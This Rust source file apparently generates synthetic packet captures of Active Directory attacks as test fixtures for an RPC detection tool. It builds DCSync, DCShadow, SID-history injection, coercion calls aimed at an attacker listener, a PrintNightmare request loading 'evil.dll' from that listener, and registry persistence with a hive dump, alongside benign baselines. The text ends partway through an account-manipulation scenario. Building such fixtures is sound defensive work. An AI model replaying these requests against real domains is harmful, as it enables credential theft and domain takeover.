//! Active Directory attack scenarios for `captures/attack/` (issue 18): the techniques a
//! Samba AD lab cannot produce (a Windows server's answers, DCOM, replication between two
//! DCs, DCShadow, calls in clear that real tools seal), each built from the request and
//! response structures of its Microsoft specification, and one benign capture per
//! interface family (DCs replicating, a print client, a registry read). Written by
//! `make_captures` into `OUTDIR/attack/`; tests/attack.rs holds what rpcsift must find.
//!
//! Addresses: 10.20.0.5 DC1, 10.20.0.6 DC2, 10.20.0.7 a member server, 10.20.0.50 a
//! workstation, 10.20.0.66 a rogue host, 10.20.0.99 the attacker's listener.

use super::*;

pub(crate) const DC1: [u8; 4] = ip(10, 20, 0, 5);
pub(crate) const DC2: [u8; 4] = ip(10, 20, 0, 6);
pub(crate) const MEMBER: [u8; 4] = ip(10, 20, 0, 7);
pub(crate) const WS: [u8; 4] = ip(10, 20, 0, 50);
pub(crate) const ROGUE: [u8; 4] = ip(10, 20, 0, 66);

// ---------------------------------------------------------------------------
// interfaces (Zeek's names: scripts/base/protocols/dce-rpc/consts.zeek)

static DRSUAPI: Iface = Iface {
    uuid: "e3514235-4b06-11d1-ab04-00c04fc2dcd2",
    name: Some("drsuapi"),
    ver: (4, 0),
    ops: &[
        (0, "DRSBind"),
        (2, "DRSReplicaSync"),
        (3, "DRSGetNCChanges"),
        (5, "DRSReplicaAdd"),
        (12, "DRSCrackNames"),
        (16, "DRSDomainControllerInfo"),
        (17, "DRSAddEntry"),
        (20, "DRSAddSidHistory"),
    ],
};
static NETLOGON: Iface = Iface {
    uuid: "12345678-1234-abcd-ef00-01234567cffb",
    name: Some("netlogon"),
    ver: (1, 0),
    ops: &[
        (4, "NetrServerReqChallenge"),
        (26, "NetrServerAuthenticate3"),
        (30, "NetrServerPasswordSet2"),
    ],
};
static EFSRPC2: Iface = Iface {
    uuid: "c681d488-d850-11d0-8c52-00c04fd90f7e",
    name: Some("efsrpc2"),
    ver: (1, 0),
    ops: &[(0, "EfsRpcOpenFileRaw")],
};
static SPOOLSS: Iface = Iface {
    uuid: "12345678-1234-abcd-ef00-0123456789ab",
    name: Some("spoolss"),
    ver: (1, 0),
    ops: &[
        (1, "RpcOpenPrinter"),
        (29, "RpcClosePrinter"),
        (65, "RpcRemoteFindFirstPrinterChangeNotificationEx"),
        (89, "RpcAddPrinterDriverEx"),
    ],
};
static NETDFS: Iface = Iface {
    uuid: "4fc742e0-4a10-11cf-8273-00aa004ae673",
    name: Some("netdfs"),
    ver: (3, 0),
    ops: &[(12, "NetrDfsAddStdRoot")],
};
static FSRVP: Iface = Iface {
    uuid: "a8e0653c-2744-4389-a61d-7373df8b2292",
    name: Some("FileServerVssAgent"),
    ver: (1, 0),
    ops: &[(8, "IsPathSupported")],
};
static EVENTLOG: Iface = Iface {
    uuid: "82273fdc-e32a-18c3-3f78-827929dc23ea",
    name: Some("eventlog"),
    ver: (0, 0),
    ops: &[
        (0, "ElfrClearELFW"),
        (7, "ElfrOpenELW"),
        (9, "ElfrOpenBELW"),
    ],
};
static EVEN6: Iface = Iface {
    uuid: "f6beaff7-1e19-4fbb-9f8f-b89e2018337c",
    name: Some("IEventService"),
    ver: (1, 0),
    ops: &[(6, "EvtRpcClearLog"), (21, "EvtRpcPutChannelConfig")],
};
static WINREG: Iface = Iface {
    uuid: "338cd001-2244-31f1-aaaa-900038001003",
    name: Some("winreg"),
    ver: (1, 0),
    ops: &[
        (2, "OpenLocalMachine"),
        (6, "BaseRegCreateKey"),
        (15, "BaseRegOpenKey"),
        (16, "BaseRegQueryInfoKey"),
        (17, "BaseRegQueryValue"),
        (20, "BaseRegSaveKey"),
        (22, "BaseRegSetValue"),
    ],
};
static SAMR: Iface = Iface {
    uuid: "12345778-1234-abcd-ef00-0123456789ac",
    name: Some("samr"),
    ver: (1, 0),
    ops: &[
        (27, "SamrOpenAlias"),
        (31, "SamrAddMemberToAlias"),
        (34, "SamrOpenUser"),
        (50, "SamrCreateUser2InDomain"),
        (58, "SamrSetInformationUser2"),
    ],
};
static LSARPC: Iface = Iface {
    uuid: "12345778-1234-abcd-ef00-0123456789ab",
    name: Some("lsarpc"),
    ver: (0, 0),
    ops: &[
        (37, "LsarAddAccountRights"),
        (43, "LsarRetrievePrivateData"),
    ],
};
static ISCMACTIVATOR: Iface = Iface {
    uuid: "000001a0-0000-0000-c000-000000000046",
    name: Some("IRemoteSCMActivator"),
    ver: (0, 0),
    ops: &[(4, "RemoteCreateInstance")],
};
static IDISPATCH: Iface = Iface {
    uuid: "00020400-0000-0000-c000-000000000046",
    name: Some("IDispatch"),
    ver: (0, 0),
    ops: &[(5, "GetIDsOfNames"), (6, "Invoke")],
};

// ---------------------------------------------------------------------------
// NDR pieces

/// A non-null referent id (the value is opaque; NDR only needs it non-zero).
fn ptr(w: &mut Buf) {
    w.u32(0x0002_0000 + (w.b.len() as u32 & 0xfffc));
}

fn align8(w: &mut Buf) {
    w.align(8);
}

fn zero64(w: &mut Buf) {
    align8(w);
    w.bytes(&[0; 8]);
}

/// A top-level RPC_UNICODE_STRING: Length, MaximumLength, buffer pointer, buffer (no NUL).
fn ustring(w: &mut Buf, s: &str) {
    let units: Vec<u16> = s.encode_utf16().collect();
    w.align(4);
    w.u16((units.len() * 2) as u16);
    w.u16((units.len() * 2) as u16);
    ptr(w);
    w.u32(units.len() as u32);
    w.u32(0);
    w.u32(units.len() as u32);
    for u in units {
        w.u16(u);
    }
}

/// A conformant varying 8-bit string with its NUL.
fn cstr(w: &mut Buf, s: &str) {
    let n = s.len() as u32 + 1;
    w.u32(n);
    w.u32(0);
    w.u32(n);
    w.bytes(s.as_bytes());
    w.u8(0);
}

/// An RPC_SID from `S-1-5-21-...`.
fn sid(w: &mut Buf, text: &str) {
    let parts: Vec<u64> = text[2..]
        .split('-')
        .map(|p| p.parse().expect("SID"))
        .collect();
    let subs = &parts[2..];
    w.u32(subs.len() as u32);
    w.u8(parts[0] as u8);
    w.u8(subs.len() as u8);
    w.bytes(&parts[1].to_be_bytes()[2..]);
    for s in subs {
        w.u32(*s as u32);
    }
}

/// A DSNAME referent (MS-DRSR 5.50): the name's UTF-16 units with their NUL as
/// conformance, structLen, SidLen 0, Guid (zero when `guid` is None), a zero Sid,
/// NameLen, StringName.
fn dsname(w: &mut Buf, dn: &str, guid: Option<&str>) {
    let units: Vec<u16> = dn.encode_utf16().collect();
    w.u32(units.len() as u32 + 1);
    w.u32(58 + 2 * units.len() as u32);
    w.u32(0);
    match guid {
        Some(g) => w.uuid(g),
        None => w.bytes(&[0; 16]),
    }
    w.bytes(&[0; 28]);
    w.u32(units.len() as u32);
    for u in units {
        w.u16(u);
    }
    w.u16(0);
}

/// The TCP handshake of connection `c`, `waits[0]` µs, a bind of `iface` answered after
/// `waits[1]` µs (association group `assoc`, the server port as secondary address),
/// `waits[2]` µs.
fn handshake_bind(w: &mut World, c: usize, iface: &'static Iface, assoc: u32, waits: [u64; 3]) {
    w.handshake(c);
    w.wait(waits[0]);
    let port = w.conns[c].h[S].port.to_string();
    w.bind_tcp(c, iface, 5840, waits[1], assoc, &port);
    w.wait(waits[2]);
}

/// A stub that starts with context handle `h`.
fn with_handle(le: bool, h: &[u8; 20]) -> Buf {
    let mut s = Buf::new(le);
    s.bytes(h);
    s
}

/// A call on pipe `fid` that opens something: the server answers `rtt` µs later with a
/// fresh context handle and success. Returns the handle.
fn open_call(w: &mut World, c: usize, fid: &[u8; 16], r: Req, rtt: u64) -> [u8; 20] {
    let h = w.rng.handle();
    w.call_transceive(c, fid, r, rtt, &st_handle_status(true, &h, 0));
    h
}

// ---------------------------------------------------------------------------
// drsuapi (MS-DRSR 4.1)

const DOMAIN_NC: &str = "DC=lab,DC=local";
const USER_GUID: &str = "6f3b0c7e-2d1a-4c55-9e3f-0a1b2c3d4e5f";
const DC2_DSA: &str = "1d2e3f40-5a6b-4c7d-8e9f-a0b1c2d3e4f5";

/// IDL_DRSGetNCChanges with a version-`v` (8 or 10) request.
fn st_get_nc_changes(
    le: bool,
    h: &[u8; 20],
    v: u32,
    dest_dsa: &str,
    nc: (&str, Option<&str>),
    exop: u32,
) -> Vec<u8> {
    let mut w = with_handle(le, h);
    w.u32(v);
    w.u32(v);
    align8(&mut w);
    w.uuid(dest_dsa); // uuidDsaObjDest
    w.uuid("9a8b7c6d-5e4f-4a3b-8c2d-1e0f9a8b7c6d"); // uuidInvocIdSrc
    ptr(&mut w); // pNC
    zero64(&mut w);
    zero64(&mut w);
    zero64(&mut w); // usnvecFrom
    w.u32(0); // pUpToDateVecDest
    w.u32(0x0000_0030 | if exop == 0 { 0x0001_0000 } else { 0 }); // ulFlags
    w.u32(if exop == 0 { 1000 } else { 1 }); // cMaxObjects
    w.u32(0x00a0_0000); // cMaxBytes
    w.u32(exop); // ulExtendedOp
    zero64(&mut w); // liFsmoInfo
    w.u32(0); // pPartialAttrSet
    w.u32(0); // pPartialAttrSetEx
    w.u32(0); // PrefixTableDest.PrefixCount
    w.u32(0); // PrefixTableDest.pPrefixEntry
    if v >= 10 {
        w.u32(0); // ulMoreFlags
    }
    dsname(&mut w, nc.0, nc.1);
    w.b
}

/// A GetNCChanges reply, shortened: the reply's version, a few opaque bytes of the
/// DRS_MSG_GETCHGREPLY, the return code.
fn st_get_nc_changes_resp(w: &mut World, le: bool) -> Vec<u8> {
    let mut b = Buf::new(le);
    b.u32(6);
    b.u32(6);
    let opaque = w.rng.bytes(120);
    b.bytes(&opaque);
    b.u32(0);
    b.b
}

fn drs_bind(w: &mut World, c: usize, call_id: u32) -> [u8; 20] {
    let h = w.rng.handle();
    let stub = w.rng.bytes(44);
    let mut resp = Buf::new(true);
    resp.u32(0x0002_0000);
    let ext = w.rng.bytes(32);
    resp.bytes(&ext);
    resp.bytes(&h);
    resp.u32(0);
    w.call(c, Req::new(call_id, 0, &stub), 1_200, &resp.b);
    w.wait(400);
    h
}

/// Scenario a1: DCSync from a workstation in clear. Real DCSync is sealed (see
/// captures/ad-lab, decrypted by the key files); here the stub is readable so that the
/// naming context, the extended operation and the destination DSA are checked. DC1 is
/// known as a DC because it answers drsuapi.
fn a1_dcsync_workstation() -> World {
    let mut w = World::new(21);
    let le = true;
    let c = w.conn((WS, 50501), (DC1, 49667), 0x2100_0001, 0x2100_1001, le);
    handshake_bind(&mut w, c, &DRSUAPI, 0x0001_a101, [600, 420, 500]);
    let h = drs_bind(&mut w, c, 2);
    // DRSDomainControllerInfo and DRSCrackNames: context calls (opaque here).
    let stub = w.rng.bytes(40);
    let reply = w.rng.bytes(96);
    w.call(c, Req::new(3, 16, &stub), 2_100, &reply);
    w.wait(300);
    let stub = w.rng.bytes(72);
    let reply = w.rng.bytes(80);
    w.call(c, Req::new(4, 12, &stub), 1_900, &reply);
    w.wait(300);
    // EXOP_REPL_OBJ for one user, by GUID, claiming DC2's DSA GUID as the destination.
    let stub = st_get_nc_changes(le, &h, 8, DC2_DSA, ("", Some(USER_GUID)), 6);
    let reply = st_get_nc_changes_resp(&mut w, le);
    w.call(c, Req::new(5, 3, &stub), 8_400, &reply);
    w.wait(1_000);
    w.close(c);
    w
}

/// Scenario a2 (benign): two DCs replicating the domain NC from each other (DRSBind,
/// DRSGetNCChanges version 10, no extended operation), as Windows DCs do all day. Both
/// serve drsuapi, so both are known as DCs without --dc: nothing reaches medium.
fn a2_dc_replication() -> World {
    let mut w = World::new(22);
    let le = true;
    let a = w.conn((DC2, 50601), (DC1, 49667), 0x2200_0001, 0x2200_1001, le);
    let b = w.conn((DC1, 50602), (DC2, 49668), 0x2200_2001, 0x2200_3001, le);
    for (c, assoc) in [(a, 0x0002_a101), (b, 0x0002_a102)] {
        handshake_bind(&mut w, c, &DRSUAPI, assoc, [500, 380, 400]);
    }
    let ha = drs_bind(&mut w, a, 2);
    let hb = drs_bind(&mut w, b, 2);
    for (c, h, dsa, nc) in [
        (a, ha, DC2_DSA, DOMAIN_NC),
        (
            b,
            hb,
            "2e3f4051-6b7c-4d8e-9fa0-b1c2d3e4f506",
            "CN=Configuration,DC=lab,DC=local",
        ),
    ] {
        let stub = st_get_nc_changes(le, &h, 10, dsa, (nc, None), 0);
        let reply = st_get_nc_changes_resp(&mut w, le);
        w.call(c, Req::new(3, 3, &stub), 6_300, &reply);
        w.wait(700);
    }
    w.close(a);
    w.close(b);
    w
}

/// DRSAddEntry V2 registering a rogue DC: its server object and its nTDSDSA object.
fn st_add_entry(le: bool, h: &[u8; 20], server_dn: &str, ntds_dn: &str) -> Vec<u8> {
    let attr = |w: &mut Buf, typ: u32, val: &[u8]| {
        w.u32(1); // ATTR array conformance
        w.u32(typ);
        w.u32(1);
        ptr(w); // pAVal
        w.u32(1); // ATTRVAL array conformance
        w.u32(val.len() as u32);
        ptr(w); // pVal
        w.u32(val.len() as u32);
        w.bytes(val);
    };
    let mut w = with_handle(le, h);
    w.u32(2);
    w.u32(2);
    // Head node: pNextEntInf, pName, ulFlags, attrCount, pAttr.
    ptr(&mut w);
    ptr(&mut w);
    w.u32(0);
    w.u32(1);
    ptr(&mut w);
    // The next node (its own referents follow it at once): no further node.
    w.u32(0);
    ptr(&mut w);
    w.u32(0);
    w.u32(1);
    ptr(&mut w);
    dsname(&mut w, ntds_dn, None);
    attr(&mut w, 0x0000_0000, b"\x04\x00\x00\x00"); // objectClass: nTDSDSA (opaque value)
    // The head node's name and attributes.
    dsname(&mut w, server_dn, None);
    attr(&mut w, 0x0000_0000, b"\x05\x00\x00\x00");
    w.b
}

/// DRSReplicaAdd V1: pNC, pszDsaSrc, rtSchedule, ulOptions.
fn st_replica_add(le: bool, h: &[u8; 20], nc: &str, src: &str) -> Vec<u8> {
    let mut w = with_handle(le, h);
    w.u32(1);
    w.u32(1);
    ptr(&mut w);
    ptr(&mut w);
    w.bytes(&[0x11; 84]);
    w.u32(0x0000_0011); // DRS_ASYNC_OP | DRS_WRIT_REP
    dsname(&mut w, nc, None);
    cstr(&mut w, src);
    w.b
}

/// Scenario a3: DCShadow as mimikatz does it. The rogue host registers itself
/// (DRSAddEntry of a server and an nTDSDSA object), asks DC1 to replicate from it
/// (DRSReplicaAdd with its own name), and DC1 connects back and calls DRSGetNCChanges on
/// the rogue host. Not something a Samba lab produces; built from MS-DRSR.
fn a3_dcshadow() -> World {
    let mut w = World::new(23);
    let le = true;
    let site = "CN=Default-First-Site-Name,CN=Sites,CN=Configuration,DC=lab,DC=local";
    let server = format!("CN=ROGUE,CN=Servers,{site}");
    let ntds = format!("CN=NTDS Settings,{server}");
    let c = w.conn((ROGUE, 50701), (DC1, 49667), 0x2300_0001, 0x2300_1001, le);
    handshake_bind(&mut w, c, &DRSUAPI, 0x0003_a101, [500, 400, 400]);
    let h = drs_bind(&mut w, c, 2);
    let stub = st_add_entry(le, &h, &server, &ntds);
    let reply = w.rng.bytes(64);
    w.call(c, Req::new(3, 17, &stub), 9_000, &reply);
    w.wait(600);
    let stub = st_replica_add(le, &h, DOMAIN_NC, "rogue.lab.local");
    w.call(c, Req::new(4, 5, &stub), 4_000, &st_status(le, 0));
    w.wait(2_000);
    // DC1 pulls from the rogue DC.
    let b = w.conn((DC1, 50702), (ROGUE, 49669), 0x2300_2001, 0x2300_3001, le);
    handshake_bind(&mut w, b, &DRSUAPI, 0x0003_a102, [400, 350, 300]);
    let hb = drs_bind(&mut w, b, 2);
    let stub = st_get_nc_changes(
        le,
        &hb,
        10,
        "3a4b5c6d-7e8f-4091-a2b3-c4d5e6f70819",
        (DOMAIN_NC, None),
        0,
    );
    let reply = st_get_nc_changes_resp(&mut w, le);
    w.call(b, Req::new(3, 3, &stub), 5_000, &reply);
    w.wait(800);
    w.close(b);
    w.close(c);
    w
}

/// DRSAddSidHistory V1 (MS-DRSR 4.1.2.1.2); the source password is sent and must never be
/// shown.
fn st_add_sid_history(le: bool, h: &[u8; 20]) -> Vec<u8> {
    let counted = |w: &mut Buf, s: &str| {
        let units: Vec<u16> = s.encode_utf16().collect();
        w.u32(units.len() as u32);
        for u in units {
            w.u16(u);
        }
    };
    let mut w = with_handle(le, h);
    w.u32(1);
    w.u32(1);
    w.u32(0); // Flags
    ptr(&mut w); // SrcDomain
    ptr(&mut w); // SrcPrincipal
    w.u32(0); // SrcDomainController
    w.u32(5);
    ptr(&mut w); // SrcCredsUser
    w.u32(3);
    ptr(&mut w); // SrcCredsDomain
    w.u32(12);
    ptr(&mut w); // SrcCredsPassword
    ptr(&mut w); // DstDomain
    ptr(&mut w); // DstPrincipal
    w.wstr("OLDDOM");
    w.wstr("Administrator");
    counted(&mut w, "admin");
    counted(&mut w, "OLD");
    counted(&mut w, "Sup3rS3cret!");
    w.wstr("LAB");
    w.wstr("lowpriv");
    w.b
}

/// Scenario a4: SID-history injection (DRSAddSidHistory) from a workstation.
fn a4_sid_history() -> World {
    let mut w = World::new(24);
    let le = true;
    let c = w.conn((WS, 50801), (DC1, 49667), 0x2400_0001, 0x2400_1001, le);
    handshake_bind(&mut w, c, &DRSUAPI, 0x0004_a101, [500, 380, 400]);
    let h = drs_bind(&mut w, c, 2);
    let stub = st_add_sid_history(le, &h);
    let reply = w.rng.bytes(12);
    w.call(c, Req::new(3, 20, &stub), 3_300, &reply);
    w.wait(500);
    w.close(c);
    w
}

// ---------------------------------------------------------------------------
// coercions, printers (MS-EFSR, MS-RPRN, MS-DFSNM, MS-FSRVP, MS-EVEN)

const LISTENER: &str = "10.20.0.99";

/// An SMB 2.1 session from `cli` to `srv` with a tree connect to IPC$.
fn smb_session(w: &mut World, cli: ([u8; 4], u16), srv: [u8; 4], n: u32) -> usize {
    let c = w.conn(cli, (srv, 445), 0x3000_0000 + n, 0x3100_0000 + n, true);
    w.smb_conn(c, 0x0000_4400_0000_0000 | u64::from(n));
    w.handshake(c);
    w.wait(500);
    w.smb_logon(c, 0x0210, false);
    let host = format!("{}.{}.{}.{}", srv[0], srv[1], srv[2], srv[3]);
    w.smb_tree_connect(c, &format!(r"\\{host}\IPC$"), 1);
    c
}

/// Open `pipe`, bind `iface`, and return the pipe's FileId.
fn pipe(w: &mut World, c: usize, name: &str, iface: &'static Iface, assoc: u32) -> [u8; 16] {
    let fid = w.smb_open(c, name);
    w.smb_bind(c, &fid, iface, 300, assoc, &format!(r"\PIPE\{name}"));
    w.wait(400);
    fid
}

/// RpcOpenPrinter (MS-RPRN 3.1.4.2.2): the printer `name`, no datatype, an empty
/// DEVMODE container, `access`.
fn st_open_printer(le: bool, name: &str, access: u32) -> Vec<u8> {
    let mut s = Buf::new(le);
    ptr(&mut s);
    s.wstr(name);
    s.u32(0); // pDatatype
    s.u32(0); // DEVMODE_CONTAINER cbBuf
    s.u32(0); // DEVMODE_CONTAINER pDevMode
    s.u32(access);
    s.b
}

/// RpcRemoteFindFirstPrinterChangeNotificationEx (MS-RPRN 3.1.4.10.4) on printer `ph`:
/// `flags`, no options, the client `local` to call back, `printer_local`, no
/// notification options.
fn st_notify(le: bool, ph: &[u8; 20], flags: u32, local: &str, printer_local: u32) -> Vec<u8> {
    let mut s = with_handle(le, ph);
    s.u32(flags);
    s.u32(0); // fdwOptions
    ptr(&mut s);
    s.wstr(local);
    s.u32(printer_local);
    s.u32(0); // pOptions
    s.b
}

/// Scenario a5: every coercion against a Windows DC (PetitPotam over \pipe\lsarpc,
/// PrinterBug, DFSCoerce, ShadowCoerce, CheeseOunce), the listener 10.20.0.99, with the
/// answers Windows gives (EfsRpcOpenFileRaw: ERROR_BAD_NETPATH once it has tried the
/// path; the Samba lab has no MS-EFSR and never calls a listener back). Calls in clear:
/// the unauthenticated PetitPotam variant; the tools that seal (ShadowCoerce) would hide
/// the path.
fn a5_coercions() -> World {
    let mut w = World::new(25);
    let le = true;
    let c = smb_session(&mut w, (WS, 50901), DC1, 25);
    let fid = pipe(&mut w, c, "lsarpc", &EFSRPC2, 0x0005_a101);
    let mut s = Buf::new(le);
    s.wstr(&format!(r"\\{LISTENER}@80\share\file.txt"));
    s.u32(0);
    let reply = st_handle_status(le, &[0; 20], 0x35);
    w.call_transceive(c, &fid, Req::new(2, 0, &s.b), 4_100, &reply);
    w.wait(500);
    w.smb_close(c, &fid);
    // PrinterBug: open the DC's print server, register a notification to the listener.
    let fid = pipe(&mut w, c, "spoolss", &SPOOLSS, 0x0005_a102);
    let stub = st_open_printer(le, r"\\10.20.0.5", 0x0002_0000);
    let ph = open_call(&mut w, c, &fid, Req::new(2, 1, &stub), 1_200);
    w.wait(300);
    let stub = st_notify(le, &ph, 0x0000_0100, &format!(r"\\{LISTENER}"), 0);
    w.call_transceive(
        c,
        &fid,
        Req::new(3, 65, &stub),
        2_600,
        &st_status(le, 0x6ba),
    );
    w.wait(300);
    w.call_transceive(c, &fid, Req::new(4, 29, &ph), 700, &st_close_resp(le));
    w.smb_close(c, &fid);
    // DFSCoerce.
    let fid = pipe(&mut w, c, "netdfs", &NETDFS, 0x0005_a103);
    let mut s = Buf::new(le);
    s.wstr(LISTENER);
    s.wstr("test");
    s.u32(0);
    s.u32(0);
    w.call_transceive(c, &fid, Req::new(2, 12, &s.b), 3_300, &st_status(le, 0x35));
    w.smb_close(c, &fid);
    // ShadowCoerce.
    let fid = pipe(&mut w, c, "FssagentRpc", &FSRVP, 0x0005_a104);
    let mut s = Buf::new(le);
    s.wstr(&format!(r"\\{LISTENER}\NETLOGON"));
    let mut r = Buf::new(le);
    r.u32(0);
    r.u32(0);
    r.u32(0x8004_2301);
    w.call_transceive(c, &fid, Req::new(2, 8, &s.b), 2_900, &r.b);
    w.smb_close(c, &fid);
    // CheeseOunce: a backup event log on the listener.
    let fid = pipe(&mut w, c, "eventlog", &EVENTLOG, 0x0005_a105);
    let mut s = Buf::new(le);
    s.u32(0);
    ustring(&mut s, &format!(r"\??\UNC\{LISTENER}\share\x.evt"));
    s.u32(1);
    s.u32(1);
    w.call_transceive(
        c,
        &fid,
        Req::new(2, 9, &s.b),
        3_700,
        &st_handle_status(le, &[0; 20], 0xc000_00be),
    );
    w.smb_close(c, &fid);
    w.close(c);
    w
}

/// RpcAddPrinterDriverEx with a level-2 DRIVER_INFO and `flags`.
fn st_add_printer_driver(le: bool, paths: [&str; 3], flags: u32) -> Vec<u8> {
    let mut s = Buf::new(le);
    ptr(&mut s);
    s.wstr(r"\\10.20.0.7");
    s.u32(2);
    s.u32(2);
    ptr(&mut s);
    s.u32(3); // cVersion
    for _ in 0..5 {
        ptr(&mut s);
    }
    s.wstr("Microsoft XPS Document Writer v4");
    s.wstr("Windows x64");
    for p in paths {
        s.wstr(p);
    }
    s.u32(flags);
    s.b
}

/// Scenario a6: PrintNightmare against a member server: RpcAddPrinterDriverEx with the
/// configuration file on the listener's share and APD_INSTALL_WARNED_DRIVER |
/// APD_COPY_FROM_DIRECTORY | APD_COPY_ALL_FILES, accepted (as an unpatched Windows
/// answers).
fn a6_printnightmare() -> World {
    let mut w = World::new(26);
    let le = true;
    let c = smb_session(&mut w, (WS, 51001), MEMBER, 26);
    let fid = pipe(&mut w, c, "spoolss", &SPOOLSS, 0x0006_a101);
    let store = r"C:\Windows\System32\DriverStore\FileRepository\ntprint.inf_amd64_9fcf0d2a3e4b5c6d\Amd64\UNIDRV.DLL";
    let evil = format!(r"\\{LISTENER}\share\evil.dll");
    let stub = st_add_printer_driver(le, [store, store, &evil], 0x8014);
    w.call_transceive(c, &fid, Req::new(2, 89, &stub), 48_000, &st_status(le, 0));
    w.wait(800);
    w.smb_close(c, &fid);
    w.close(c);
    w
}

/// Scenario a7 (benign): a print client: it opens a printer on the print server,
/// registers a change notification with its own address, and installs a driver from
/// the driver store. Nothing reaches medium.
fn a7_print_client() -> World {
    let mut w = World::new(27);
    let le = true;
    let c = smb_session(&mut w, (WS, 51101), MEMBER, 27);
    let fid = pipe(&mut w, c, "spoolss", &SPOOLSS, 0x0007_a101);
    let stub = st_open_printer(le, r"\\10.20.0.7\Office-Printer", 0x0000_0008);
    let ph = open_call(&mut w, c, &fid, Req::new(2, 1, &stub), 1_100);
    w.wait(300);
    let stub = st_notify(le, &ph, 0x0000_00ff, r"\\10.20.0.50", 0x4f2c);
    w.call_transceive(c, &fid, Req::new(3, 65, &stub), 1_900, &st_status(le, 0));
    w.wait(300);
    let store = r"C:\Windows\System32\DriverStore\FileRepository\prnms003.inf_amd64_4a5b6c7d8e9f0a1b\Amd64\mxdwdrv.dll";
    let stub = st_add_printer_driver(le, [store, store, store], 0);
    w.call_transceive(c, &fid, Req::new(4, 89, &stub), 21_000, &st_status(le, 0));
    w.wait(300);
    w.call_transceive(c, &fid, Req::new(5, 29, &ph), 600, &st_close_resp(le));
    w.smb_close(c, &fid);
    w.close(c);
    w
}

// ---------------------------------------------------------------------------
// remote registry (MS-RRP)

fn st_open_hklm(le: bool) -> Vec<u8> {
    let mut s = Buf::new(le);
    ptr(&mut s);
    s.u16(0x005c); // ServerName: one WCHAR
    s.u32(0x0200_0000);
    s.b
}

fn st_open_key(le: bool, parent: &[u8; 20], sub: &str) -> Vec<u8> {
    let mut s = with_handle(le, parent);
    ustring(&mut s, sub);
    s.u32(0);
    s.u32(0x0200_0000);
    s.b
}

fn st_set_value(le: bool, key: &[u8; 20], name: &str, data: &str) -> Vec<u8> {
    let v: Vec<u8> = utf16le(data).into_iter().chain([0, 0]).collect();
    let mut s = with_handle(le, key);
    ustring(&mut s, name);
    s.u32(1); // REG_SZ
    s.u32(v.len() as u32);
    s.bytes(&v);
    s.u32(v.len() as u32);
    s.b
}

/// Open `sub` under `parent` and return the new key's handle.
fn reg_open(
    w: &mut World,
    c: usize,
    fid: &[u8; 16],
    id: u32,
    parent: &[u8; 20],
    sub: &str,
) -> [u8; 20] {
    let h = open_call(
        w,
        c,
        fid,
        Req::new(id, 15, &st_open_key(true, parent, sub)),
        700,
    );
    w.wait(200);
    h
}

/// OpenLocalMachine as call 2 on pipe `fid`: the HKLM handle.
fn reg_open_hklm(w: &mut World, c: usize, fid: &[u8; 16]) -> [u8; 20] {
    let h = open_call(w, c, fid, Req::new(2, 2, &st_open_hklm(true)), 600);
    w.wait(200);
    h
}

/// Scenario a8: remote registry against a member server: a Run-key value and the
/// Winlogon Userinit value set (persistence), the boot key's class read (Lsa\JD) and the
/// SECURITY hive saved to a file (secretsdump's path, before it reads the file back
/// over ADMIN$). Windows answers every call; the Samba lab's hive saves fail.
fn a8_registry_persistence_and_dump() -> World {
    let mut w = World::new(28);
    let le = true;
    let c = smb_session(&mut w, (WS, 51201), MEMBER, 28);
    let fid = pipe(&mut w, c, "winreg", &WINREG, 0x0008_a101);
    let hklm = reg_open_hklm(&mut w, c, &fid);
    let run = reg_open(
        &mut w,
        c,
        &fid,
        3,
        &hklm,
        r"SOFTWARE\Microsoft\Windows\CurrentVersion\Run",
    );
    let stub = st_set_value(le, &run, "OneDriveUpdater", r"C:\Users\Public\odu.exe");
    w.call_transceive(c, &fid, Req::new(4, 22, &stub), 900, &st_status(le, 0));
    w.wait(200);
    let wl = reg_open(
        &mut w,
        c,
        &fid,
        5,
        &hklm,
        r"SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon",
    );
    let stub = st_set_value(
        le,
        &wl,
        "Userinit",
        r"C:\Windows\system32\userinit.exe,C:\Users\Public\u.exe",
    );
    w.call_transceive(c, &fid, Req::new(6, 22, &stub), 900, &st_status(le, 0));
    w.wait(200);
    let jd = reg_open(
        &mut w,
        c,
        &fid,
        7,
        &hklm,
        r"SYSTEM\CurrentControlSet\Control\Lsa\JD",
    );
    let mut s = with_handle(le, &jd);
    ustring(&mut s, "");
    let reply = w.rng.bytes(60);
    w.call_transceive(c, &fid, Req::new(8, 16, &s.b), 500, &reply);
    w.wait(200);
    let sec = reg_open(&mut w, c, &fid, 9, &hklm, "SECURITY");
    let mut s = with_handle(le, &sec);
    ustring(&mut s, r"..\Temp\KqZtPwXe.tmp");
    s.u32(0);
    w.call_transceive(c, &fid, Req::new(10, 20, &s.b), 14_000, &st_status(le, 0));
    w.smb_close(c, &fid);
    w.close(c);
    w
}

/// Scenario a9 (benign): a registry read (an inventory tool reading the product name).
fn a9_registry_read() -> World {
    let mut w = World::new(29);
    let le = true;
    let c = smb_session(&mut w, (WS, 51301), MEMBER, 29);
    let fid = pipe(&mut w, c, "winreg", &WINREG, 0x0009_a101);
    let hklm = reg_open_hklm(&mut w, c, &fid);
    let k = reg_open(
        &mut w,
        c,
        &fid,
        3,
        &hklm,
        r"SOFTWARE\Microsoft\Windows NT\CurrentVersion",
    );
    let mut s = with_handle(le, &k);
    ustring(&mut s, "ProductName");
    s.u32(0);
    s.u32(0);
    s.u32(0);
    s.u32(0);
    let reply = w.rng.bytes(48);
    w.call_transceive(c, &fid, Req::new(4, 17, &s.b), 500, &reply);
    w.smb_close(c, &fid);
    w.close(c);
    w
}

// ---------------------------------------------------------------------------
// accounts, secrets, event logs (MS-SAMR, MS-LSAD, MS-EVEN, MS-EVEN6)

/// SamrOpenAlias / SamrOpenUser (MS-SAMR 3.1.5.1.7, 3.1.5.1.9) in `domain`: `access`,
/// the RID.
fn st_samr_open(le: bool, domain: &[u8; 20], access: u32, rid: u32) -> Vec<u8> {
    let mut s = with_handle(le, domain);
    s.u32(access);
    s.u32(rid);
    s.b
}

/// Scenario a10: account manipulation against DC1 over \pipe\samr and \pipe\lsarpc: a
/// machine account created (RBCD/noPac preparation), a member added to Administrators
/// (alias 544), an NT hash set directly (SamrSetInformationUser2 class 18), the DPAPI
/// domain backup key read (LsarRetrievePrivateData), SeDebugPrivilege granted.
fn a10_accounts_and_secrets() -> World {
    let mut w = World::new(30);
    let le = true;
    let c = smb_session(&mut w, (WS, 51401), DC1, 30);
    let fid = pipe(&mut w, c, "samr", &SAMR, 0x000a_a101);
    let dom = w.rng.handle();
    let mut s = with_handle(le, &dom);
    ustring(&mut s, "EVILPC$");
